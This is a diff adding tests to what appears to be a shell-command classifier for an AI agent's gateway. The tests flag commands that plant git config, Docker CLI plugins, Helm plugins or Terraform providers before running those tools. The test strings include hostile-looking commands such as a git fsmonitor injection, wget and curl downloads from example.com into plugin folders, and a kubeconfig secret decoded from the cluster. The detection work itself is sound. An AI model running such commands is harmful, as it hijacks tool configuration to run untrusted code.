@@ -82,3 +82,67 @@ test('D8 round 16 content the gateway judges anyway: a kubeconfig printed by kub
     'kubectl get secret capi-kubeconfig -o jsonpath=\'{.data.value}\' | base64 -d > /tmp/kc; KUBECONFIG=/tmp/kc kubectl get nodes',
   ]) assert.ok(written(command).length > 0, command);
 });
+
+test('D8 round 17 what the input writes before a tool call goes to the gateway (`toolWrites`), save a shown file judged here and writes after the call', () => {
+  const writes = (command: string) => classify(command).toolWrites ?? [];
+  // an include of an existing configuration is read by the gateway only: it gets the path
+  assert.deepEqual(writes('cp evil.cfg ~/.gitconfig.local && git status'), ['/home/a/.gitconfig.local']);
+  assert.deepEqual(writes('printf \'[core]\\n\\tfsmonitor = x\\n\' > team.gitconfig; git status'), ['/home/a/app/team.gitconfig']);
+  assert.deepEqual(writes('tar xzf c.tgz -C conf && git log'), ['/home/a/app/conf']);
+  // a file kubectl runs aws for (an EKS plugin's ~/.aws/config) is the gateway's to find
+  assert.deepEqual(writes('cp x ~/.aws/config; kubectl get pods'), ['/home/a/.aws/config']);
+  // Benign neighbours: a write after the call, a tool outside the table, a shown file the classifier judged, the call's own `>`
+  for (const command of ['git status; cp evil.cfg ~/.gitconfig.local', 'cp a b && ls', 'printf \'[user]\\n\\tname = x\\n\' > g && GIT_CONFIG_GLOBAL=./g git status', 'git diff > team.gitconfig', 'mkdir -p ~/.docker/cli-plugins && docker compose ps']) {
+    assert.deepEqual(writes(command), [], command);
+  }
+});
+
+test('D8 round 17 writers that put a plugin in place without naming it as the destination: option clusters, `wget -P`, `git clone DIR`', () => {
+  for (const command of [
+    'ln -st ~/.docker/cli-plugins /tmp/docker-x && docker ps',
+    'ln -sft/home/a/.docker/cli-plugins /tmp/docker-x && docker ps',
+    'cp -vt ~/.docker/cli-plugins docker-x && docker ps',
+    'install -Dt ~/.docker/cli-plugins docker-x; docker ps',
+    'install -Dm755 x ~/.docker/cli-plugins/docker-compose; docker compose ps',
+    'ln -s /tmp/x ~/.docker/cli-plugins/docker-compose && docker compose ps',
+    'cp -s /tmp/x ~/.docker/cli-plugins/docker-compose && docker compose ps',
+    'wget -P ~/.docker/cli-plugins https://example.com/docker-compose && docker compose ps',
+    'wget -qP ~/.docker/cli-plugins https://example.com/docker-compose && docker compose ps',
+    'git clone https://github.com/databus23/helm-diff ~/.local/share/helm/plugins/diff && helm list',
+    'cd ~/.local/share/helm/plugins && git clone https://github.com/databus23/helm-diff && helm list',
+  ]) {
+    assert.equal(classify(command).facts.confidence, 'opaque', command);
+    assert.ok(written(command).length > 0, command);
+  }
+  // Benign neighbours: a clone then git in it (git writes a clone's own files), a download elsewhere, a cluster without -t
+  for (const command of ['git clone https://github.com/o/r ~/b && cd ~/b && git status', 'git clone --depth 1 https://github.com/o/r.git && cd r && git log -1', 'wget -qP /tmp https://example.com/a.tgz && docker ps', 'cp -av a b && docker ps']) {
+    assert.deepEqual(written(command), [], command);
+    assert.deepEqual(classify(command).toolWrites?.filter((p) => !p.startsWith('/tmp') && p !== '/home/a/app/b'), [], command);
+  }
+});
+
+test('D8 round 17 `helm plugin install` and Terraform\'s provider folders written before a call of the tool: unknown', () => {
+  for (const command of [
+    'helm plugin install https://github.com/databus23/helm-diff && helm diff upgrade web ./chart',
+    'helm plugin install https://github.com/databus23/helm-diff; helm list',
+    'HELM_PLUGINS=/opt/p helm plugin install ./x && HELM_PLUGINS=/opt/p helm list',
+    'terraform providers mirror ~/.terraform.d/plugins && terraform plan',
+    'terraform providers mirror -platform=linux_amd64 terraform.d/plugins; terraform plan',
+    'cp -r /tmp/p .terraform/providers && terraform plan',
+    'curl -o .terraform/providers/registry.terraform.io/hashicorp/aws/5.0.0/linux_amd64/terraform-provider-aws https://example.com/p && terraform plan',
+    'mkdir -p ~/.local/share/terraform/plugins && cp -r mirror/* ~/.local/share/terraform/plugins/ && tofu plan',
+    'cp -r p infra/.terraform/providers && terraform -chdir=infra plan',
+    // a folder mkdir made (empty), then filled by an archive
+    'mkdir -p terraform.d/plugins && tar xzf /tmp/provider.tgz -C terraform.d/plugins && terraform plan',
+    'mkdir -p ~/.local/share/helm/plugins && tar xzf diff.tgz -C ~/.local/share/helm/plugins && helm list',
+  ]) {
+    assert.equal(classify(command).facts.confidence, 'opaque', command);
+    assert.ok(written(command).length > 0, command);
+  }
+  // Benign neighbours: the install alone (as before: partial), a plugin list, init then plan (terraform's own download),
+  // a mirror elsewhere, a plan in another folder than the written providers
+  assert.equal(classify('helm plugin install https://github.com/databus23/helm-diff').facts.confidence, 'partial');
+  for (const command of ['helm plugin list && helm list', 'helm plugin uninstall diff && helm list', 'terraform init && terraform plan', 'terraform providers mirror /tmp/mirror && terraform plan', 'cp -r p infra/.terraform/providers && terraform -chdir=other plan']) {
+    assert.deepEqual(written(command), [], command);
+  }
+});
